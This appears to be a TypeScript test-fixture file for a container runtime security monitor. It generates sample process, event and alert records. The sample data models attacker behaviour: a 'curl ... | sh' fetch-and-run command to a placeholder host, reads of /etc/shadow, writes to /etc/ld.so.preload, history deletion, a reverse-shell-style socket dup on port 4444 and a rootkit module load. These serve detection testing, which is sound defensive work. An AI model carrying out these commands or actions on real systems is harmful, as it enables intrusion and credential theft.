import type { Alert, Event, EventKind, Process } from './generated/records.js';

/**
 * Realistic records of every kind, for tests and benchmarks across the workspace. The values
 * follow what the agent and the enricher emit; the exec event is the "typical" one benches use.
 */
const NS = 1_764_367_200_123_456_789n; // 2025-11-28T22:00:00.123456789Z

export function sampleProcess(overrides: Partial<Process> = {}): Process {
  return {
    pid: 4242, tid: 4242, ppid: 4200, uid: 1000, gid: 1000, euid: 1000, egid: 1000, loginuid: 4294967295,
    comm: 'bash', exe: '/usr/bin/bash', args: ['bash', '-c', 'curl -s http://example.invalid | sh'], args_truncated: false,
    cwd: '/app', tty: 'pts0', start_time: NS - 5_000_000_000n, cgroup_id: 12345,
    cgroup_path: '/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1f0e.slice/cri-containerd-3f4e5d.scope',
    container_id: '3f4e5d6c7b8a99887766554433221100ffeeddccbbaa99887766554433221100',
    ns: { mnt: 4026532201, pid: 4026532204, net: 4026532207, user: 4026531837, uts: 4026532202, ipc: 4026532203, cgroup: 4026532205 },
    ancestors: [
      { pid: 4200, comm: 'nginx', exe: '/usr/sbin/nginx', args: ['nginx: worker process'] },
      { pid: 4100, comm: 'nginx', exe: '/usr/sbin/nginx', args: ['nginx', '-g', 'daemon off;'] },
      { pid: 4000, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', args: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'k8s.io'] },
      { pid: 1, comm: 'systemd', exe: '/usr/lib/systemd/systemd', args: ['/sbin/init'] },
    ],
    ...overrides,
  };
}

const EMPTY_BLOCKS = {
  enrichment: null, process: null, exec: null, exit: null, fork: null, file: null, net: null, privilege: null, capability: null,
  ptrace: null, module: null, mount: null, namespace_change: null, memfd: null, dup: null, bpf: null, audit: null, stats: null, k8s: null,
} satisfies Omit<Event, 'id' | 'ts' | 'node' | 'kind'>;

const netBase = { family: 'inet', socket_type: 1, protocol: 6, direction: 'none', src_addr: null, src_port: 0, dst_addr: null, dst_port: 0, result: 0 } as const;

/** The kind-specific block of a sample event. */
const BLOCKS: Record<EventKind, Partial<Event>> = {
  unknown: {},
  process_exec: { exec: { filename: '/usr/bin/bash', exe_memfd: false, exe_deleted: false, exe_upper_layer: null, interpreter: null } },
  process_exit: { exit: { code: 0, signal: 9, core_dumped: false } },
  process_fork: { fork: { child_pid: 4243, child_tid: 4243, clone_flags: 0x01200011 } },
  file_open: { file: { path: '/etc/shadow', path_truncated: false, new_path: null, flags: 0, mode: 0, symlink: false, result: 3 } },
  file_write: { file: { path: '/etc/ld.so.preload', path_truncated: false, new_path: null, flags: 0o1101, mode: 0o644, symlink: false, result: 3 } },
  file_unlink: { file: { path: '/root/.bash_history', path_truncated: false, new_path: null, flags: 0, mode: 0, symlink: false, result: 0 } },
  file_rename: { file: { path: '/tmp/x', path_truncated: false, new_path: '/usr/local/bin/kubectl', flags: 0, mode: 0, symlink: false, result: 0 } },
  file_chmod: { file: { path: '/tmp/payload', path_truncated: false, new_path: null, flags: 0, mode: 0o755, symlink: false, result: 0 } },
  file_link: { file: { path: '/etc/shadow', path_truncated: false, new_path: '/tmp/s', flags: 0, mode: 0, symlink: true, result: 0 } },
  net_connect: { net: { ...netBase, direction: 'outbound', src_addr: '10.0.0.5', src_port: 51234, dst_addr: '169.254.169.254', dst_port: 80 } },
  net_accept: { net: { ...netBase, family: 'inet6', direction: 'inbound', src_addr: '::1', src_port: 8080, dst_addr: '::1', dst_port: 40000 } },
  net_listen: { net: { ...netBase, direction: 'listen', src_addr: '0.0.0.0', src_port: 4444 } },
  net_socket: { net: { ...netBase, family: 'packet', socket_type: 3, protocol: 768 } },
  priv_change: {
    privilege: {
      op: 'setresuid', old_uid: 1000, old_euid: 1000, old_gid: 1000, old_egid: 1000, new_uid: 0, new_euid: 0, new_suid: 0, new_fsuid: null,
      new_gid: null, new_egid: null, new_sgid: null, new_fsgid: null, cap_effective: null, cap_permitted: null, cap_inheritable: null, result: 0,
    },
  },
  capability_use: { capability: { cap: 21, name: 'CAP_SYS_ADMIN', granted: true } },
  ptrace: { ptrace: { request: 16, request_name: 'PTRACE_ATTACH', target_pid: 1, result: 0 } },
  module_load: { module: { op: 'finit_module', name: 'rootkit', path: '/tmp/rootkit.ko', params: null, result: -1 } },
  mount: { mount: { op: 'mount', source: '/dev/sda1', target: '/mnt/host', fstype: 'ext4', flags: 0, result: 0 } },
  namespace_change: { namespace_change: { op: 'setns', flags: 0x00020000, fd: 3, fd_path: '/proc/1/ns/mnt', result: 0 } },
  memfd_create: { memfd: { name: 'x', flags: 1, result: 3 } },
  fd_dup_socket: { dup: { op: 'dup2', oldfd: 3, newfd: 1, socket_family: 'inet', remote_addr: '10.1.2.3', remote_port: 4444 } },
  bpf_call: { bpf: { cmd: 5, cmd_name: 'BPF_PROG_LOAD', prog_type: 2, result: 7 } },
  k8s_audit: {
    audit: {
      audit_id: '7b9d4e3a-1c2b-4f6e-9a8d-0e1f2a3b4c5d', stage: 'ResponseComplete', level: 'Metadata', verb: 'create', user: 'system:serviceaccount:default:builder',
      user_uid: null, groups: ['system:serviceaccounts', 'system:authenticated'], impersonated_user: null, resource: 'pods', subresource: 'exec', api_group: '',
      api_version: 'v1', name: 'web-7d4b9c', namespace: 'shop', request_uri: '/api/v1/namespaces/shop/pods/web-7d4b9c/exec?command=sh', response_code: 101,
      source_ips: ['10.0.0.9'], user_agent: 'kubectl/v1.34.0', decision: 'allow', request_object: null,
    },
  },
  agent_stats: {
    stats: {
      interval_ms: 10_000, events_by_kind: { process_exec: 120, file_open: 3400 }, kernel_drops_by_kind: { file_open: 2 }, kernel_drops: 2,
      decode_errors: 0, spool_records: 0, spool_bytes: 0, spool_drops: 0, loader_restarts: 0,
    },
  },
};

export function sampleEvent(kind: EventKind = 'process_exec', overrides: Partial<Event> = {}): Event {
  const noProcess = kind === 'k8s_audit' || kind === 'agent_stats';
  return {
    ...EMPTY_BLOCKS,
    id: `evt-${kind}-0001`,
    ts: NS,
    node: 'node-a',
    kind,
    process: noProcess ? null : sampleProcess(),
    ...BLOCKS[kind],
    ...overrides,
  };
}

export function sampleEnrichedEvent(kind: EventKind = 'process_exec', overrides: Partial<Event> = {}): Event {
  return sampleEvent(kind, {
    enrichment: 'resolved',
    k8s: {
      cluster: 'prod-eu', namespace: 'shop', namespace_labels: { team: 'payments' }, pod: 'web-7d4b9c-xk2lp', pod_uid: '1f0e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b',
      pod_labels: { app: 'web', 'pod-template-hash': '7d4b9c' }, pod_annotations: {}, container: 'nginx', image: 'nginx:1.27',
      image_id: 'docker.io/library/nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31', service_account: 'web', node: 'node-a',
      owner_kind: 'ReplicaSet', owner_name: 'web-7d4b9c', workload_kind: 'Deployment', workload_name: 'web', privileged: false, host_pid: false,
      host_network: false, host_ipc: false, host_path_mounts: [],
    },
    ...overrides,
  });
}

export function sampleAlert(overrides: Partial<Alert> = {}): Alert {
  return {
    id: 'alr-terminal-shell-1-evt-process_exec-0001',
    ts: NS + 1_000_000n,
    rule: { id: 'terminal-shell-in-container', name: 'Terminal shell in container', version: 1 },
    severity: 'high',
    tags: ['stable', 'container', 'shell'],
    mitre: ['T1059.004'],
    message: 'Shell bash spawned in shop/web-7d4b9c-xk2lp by nginx',
    stateful: null,
    event: sampleEnrichedEvent(),
    ...overrides,
  };
}
